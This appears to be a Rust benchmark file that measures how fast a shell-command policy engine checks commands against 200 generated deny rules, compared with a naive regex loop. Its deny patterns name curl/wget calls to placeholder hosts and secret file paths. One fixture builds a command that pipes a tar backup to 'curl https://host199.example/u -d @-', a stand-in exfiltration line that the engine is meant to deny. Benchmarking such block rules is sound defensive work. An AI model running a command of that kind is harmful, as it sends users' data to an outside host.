//! Policy evaluation with 200 deny rules on 200-byte commands: the compiled engine
//! (`Policy::evaluate`: shell split + one `RegexSet` pass per distinct text + trace) against the
//! naive baseline, a loop over 200 individually compiled `Regex`es on the raw command.
//!
//! `cargo bench -p tether-policy --bench evaluate`. Before the criterion groups it prints
//! per-decision percentiles measured one decision at a time (p50/p99), which criterion's
//! per-sample means don't show.
#![allow(missing_docs, clippy::unwrap_used)]

use std::hint::black_box;
use std::time::Instant;

use criterion::{Criterion, criterion_group, criterion_main};
use regex::Regex;
use tether_policy::{Policy, PolicySpec, Request, RuleSpec, Verdict};

const RULES: usize = 200;

/// 200 deny patterns of the shapes operators write: anchored command names with dangerous
/// flags, word-bounded keywords, alternations and path fragments.
fn patterns() -> Vec<String> {
    (0..RULES)
        .map(|i| match i % 5 {
            0 => format!(r"^tool{i}\s+(--force|-f)\b"),
            1 => format!(r"\bdanger{i}\b"),
            2 => format!(r"^(svc{i}|daemon{i})\s+(stop|disable|mask)\b"),
            3 => format!(r"/etc/secret{i}(/|$|\s)"),
            _ => format!(r"(curl|wget)\s+\S*host{i}\.example"),
        })
        .collect()
}

/// A 200-byte command that matches none of the rules (the common case).
fn clean_command() -> String {
    let mut c = String::from(
        "tar --create --gzip --file /backup/www-2026-11-23.tgz --exclude=/srv/www/cache \
         --exclude=/srv/www/tmp --directory /srv/www html assets config templates logs ",
    );
    while c.len() < 200 {
        c.push('x');
    }
    c.truncate(200);
    c
}

/// A 200-byte command that the last rule denies.
fn denied_command() -> String {
    let mut c = clean_command();
    let tail = format!(" | curl https://host{}.example/u -d @-", RULES - 1);
    c.truncate(200 - tail.len());
    c.push_str(&tail);
    c
}

fn compiled() -> Policy {
    let spec = PolicySpec {
        deny_commands: patterns()
            .into_iter()
            .enumerate()
            .map(|(i, pattern)| RuleSpec {
                id: format!("rule-{i}"),
                pattern,
                message: None,
                approval: false,
            })
            .collect(),
        ..PolicySpec::default()
    };
    Policy::compile(&spec).unwrap()
}

fn naive() -> Vec<Regex> {
    patterns().iter().map(|p| Regex::new(p).unwrap()).collect()
}

fn naive_denies(rules: &[Regex], cmd: &str) -> bool {
    rules.iter().any(|r| r.is_match(cmd))
}

fn percentiles(name: &str, mut f: impl FnMut() -> bool) -> f64 {
    const N: usize = 50_000;
    for _ in 0..2_000 {
        black_box(f());
    }
    let mut ns: Vec<u64> = (0..N)
        .map(|_| {
            let t = Instant::now();
            black_box(f());
            t.elapsed().as_nanos() as u64
        })
        .collect();
    ns.sort_unstable();
    let p = |q: f64| ns[((N as f64 - 1.0) * q) as usize];
    println!(
        "{name:<44} p50 {:>7} ns   p90 {:>7} ns   p99 {:>7} ns",
        p(0.5),
        p(0.9),
        p(0.99)
    );
    p(0.5) as f64
}

fn bench(c: &mut Criterion) {
    let policy = compiled();
    let rules = naive();
    let clean = Request::exec(clean_command());
    let denied = Request::exec(denied_command());
    assert_eq!(clean_command().len(), 200);
    assert_eq!(denied_command().len(), 200);
    assert_eq!(policy.evaluate(&clean).verdict, Verdict::Allow);
    assert_eq!(policy.evaluate(&denied).verdict, Verdict::Deny);
    assert!(!naive_denies(&rules, &clean_command()));
    assert!(naive_denies(&rules, &denied_command()));

    println!(
        "\nper-decision latency, {RULES} deny rules, 200-byte commands (one decision per sample):"
    );
    let clean_cmd = clean_command();
    let denied_cmd = denied_command();
    let e_clean = percentiles("engine evaluate, allowed command", || {
        policy.evaluate(black_box(&clean)).verdict == Verdict::Deny
    });
    let n_clean = percentiles("naive Regex loop, allowed command", || {
        naive_denies(&rules, black_box(&clean_cmd))
    });
    let e_denied = percentiles("engine evaluate, denied command", || {
        policy.evaluate(black_box(&denied)).verdict == Verdict::Deny
    });
    let n_denied = percentiles("naive Regex loop, denied command", || {
        naive_denies(&rules, black_box(&denied_cmd))
    });
    println!(
        "p50 ratio naive/engine: allowed {:.1}x, denied {:.1}x\n",
        n_clean / e_clean,
        n_denied / e_denied
    );

    let mut g = c.benchmark_group("policy_200_rules");
    g.bench_function("engine_evaluate_allowed", |b| {
        b.iter(|| policy.evaluate(black_box(&clean)))
    });
    g.bench_function("naive_regex_loop_allowed", |b| {
        b.iter(|| naive_denies(&rules, black_box(&clean_cmd)))
    });
    g.bench_function("engine_evaluate_denied", |b| {
        b.iter(|| policy.evaluate(black_box(&denied)))
    });
    g.bench_function("naive_regex_loop_denied", |b| {
        b.iter(|| naive_denies(&rules, black_box(&denied_cmd)))
    });
    g.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .warm_up_time(std::time::Duration::from_millis(500))
        .measurement_time(std::time::Duration::from_secs(2));
    targets = bench
}
criterion_main!(benches);
